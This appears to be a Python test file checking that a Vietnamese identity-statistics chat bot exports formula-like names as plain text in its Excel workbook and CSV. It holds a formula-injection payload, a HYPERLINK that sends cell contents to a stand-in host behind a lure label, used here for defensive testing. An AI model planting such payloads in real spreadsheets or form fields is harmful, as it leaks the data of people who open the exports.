"""A registrant's display name reaches the leaders' workbook and CSV as text, never as a
formula: `=HYPERLINK(…)` in a name must not become a live link in Excel (issue 19, files)."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from core.catalogue import build_catalogue
from core.chat import Document
from core.submission import Sender, Submission
from render.excel import csv_bytes, csv_text
from render.report import build_report
from tests.conftest import CONFIG_PATH, ChatBot
from tests.render.test_render_files import SENT, W47

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A2&C2, "Bấm xem bảng")'
REPORT = (
    "/baocao\nĐã cấp CCCD: 6.352\nĐã xác thực ĐDĐT: 5.014\nĐã kích hoạt ĐDĐT: 4.454\n"
    "Trẻ 6-14 tuổi: 898\nĐã cấp Căn cước 6-14 tuổi: 286"
)


async def _registered_report(chat: ChatBot) -> None:
    """A stranger whose display name is a formula registers, is approved and reports."""
    sent = await chat.send(HOSTILE, "/dangky Xã Bình Long", chat="dm_hostile", chat_type="private")
    number = re.search(r"số (\d+)", sent)
    assert number is not None, sent
    await chat.send("thuong_truc", f"/duyet {number.group(1)}", chat="dm", chat_type="private")
    stored = await chat.send(HOSTILE, REPORT, chat="dm_hostile", chat_type="private")
    assert stored.startswith("✅"), stored


async def _export(chat: ChatBot, fmt: str) -> Path:
    replies = await chat.replies("lanh_dao", f"/xuat {fmt}", chat="dm_lead", chat_type="private")
    documents = [b for r in replies for b in r.blocks if isinstance(b, Document)]
    assert len(documents) == 1, replies
    return documents[0].path


async def test_a_formula_as_a_name_is_text_in_the_workbook(chat: ChatBot, tmp_path: Path) -> None:
    chat.engine.files_dir = tmp_path
    await _registered_report(chat)
    workbook = load_workbook(await _export(chat, "xlsx"))
    found = [
        cell
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value == HOSTILE
    ]
    assert len(found) == 2  # the sender column of the raw sheet and of the history
    for cell in found:
        assert cell.data_type == "s"  # a string, not a formula ("f")
        assert cell.quotePrefix  # and it stays text when someone edits it in Excel


def test_a_formula_as_a_unit_name_is_text_in_the_csv() -> None:
    # Unit names come from the config; one written like a formula still reaches the CSV as
    # text (the CSV has no sender column: names of people never reach it).
    config = CONFIG_PATH.read_text(encoding="utf-8")
    config = config.replace('name = "Xã Bình Long"', 'name = "=1+2 Xã Bình Long"')
    catalogue = build_catalogue(tomllib.loads(config))
    values = {unit.code: {"citizen_id_issued": 100, "eid_verified": 90} for unit in catalogue.units}
    report = build_report(
        catalogue,
        W47,
        [_sub(code, v) for code, v in values.items()],
        {},
        [],
        [],
        date(2024, 11, 18),
    )
    text = csv_bytes(report).decode("utf-8-sig")
    names = [row["Đơn vị"] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
    assert "'=1+2 Xã Bình Long" in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


def test_csv_text_neutralises_every_formula_lead() -> None:
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{lead}1+1") == f"'{lead}1+1"
    assert csv_text("Xã Bình Long") == "Xã Bình Long"


def _sub(code: str, values: dict[str, int]) -> Submission:
    return Submission(code, W47.key, 1, values, False, SENT, Sender("sim", "x", "x"))
